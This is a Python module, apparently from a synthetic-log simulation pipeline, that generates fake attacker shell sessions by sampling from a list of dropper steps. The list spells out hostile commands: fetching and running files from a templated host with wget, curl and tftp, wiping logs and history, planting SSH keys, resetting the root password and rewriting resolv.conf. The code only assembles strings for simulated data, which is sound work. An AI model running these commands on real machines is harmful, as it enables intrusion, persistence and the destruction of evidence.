"""What is typed into a shell: scripts of campaigns, and what everybody types."""

from __future__ import annotations

from pipeline.world.dice import Dice
from pipeline.world.mint import Mint

# Steps of droppers. `{file}` differs from host to host, as `{host}` and `{key}` do.
_STEPS = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root",
    "wget http://{host}/{file} -O {file}",
    "curl -o {file} http://{host}/{file}",
    "/bin/busybox wget http://{host}/{file}.sh",
    "tftp {host} -c get {file}",
    "busybox ftpget -v {host} {file} {file}",
    "chmod 777 {file}",
    "chmod +x /tmp/{file} && /tmp/{file}",
    "nohup ./{file} {key} > /dev/null 2>&1 &",
    "sh {file} {key} && exit",
    "rm -rf {file} /var/log/wtmp",
    "history -c",
    "crontab -l | grep -v {file} | crontab -",
    "echo '{key}' >> /root/.ssh/authorized_keys",
    "echo root:{key} | chpasswd",
    "chattr +i /etc/{file}",
    "pkill -9 {file} ; killall -9 {key}",
    "iptables -A INPUT -p tcp --dport {port} -j DROP",
    "systemctl stop {file}; systemctl disable {file}",
    "ps aux | grep {file} | awk '{{print $2}}' | xargs kill -9",
    "uname -a ; cat /proc/cpuinfo | grep -c processor",
    "mount -o remount,rw / ; mkdir -p /dev/shm/{file}",
    "base64 -d /tmp/{key} > /tmp/{file}",
    "echo 'nameserver {host}' > /etc/resolv.conf",
    "perl /tmp/{file} {host} {port}",
    "python3 -c 'import {file}' ; unset HISTFILE",
    "service {file} stop ; insmod {file}",
    "dd if=/dev/urandom of=/tmp/{key} bs=1 count={port}",
)
_LENGTH = (8, 12)  # steps
_LEFT_OUT = (1, 4)  # of the lines, one step

Script = list[str]


def script(dice: Dice) -> Script:
    """The steps of one campaign, in its order."""
    return dice.some(_STEPS, dice.between(*_LENGTH))


def typed(dice: Dice, mint: Mint, of: Script) -> str:
    """The script as one host is made to run it."""
    steps = list(of)
    if dice.chance(*_LEFT_OUT):
        del steps[dice.below(len(steps))]
    return "; ".join(steps).format(
        host=mint.address(dice),
        file=dice.hexadecimal(dice.between(3, 8)),
        key=dice.hexadecimal(12),
        port=dice.between(1_024, 65_535),
    )
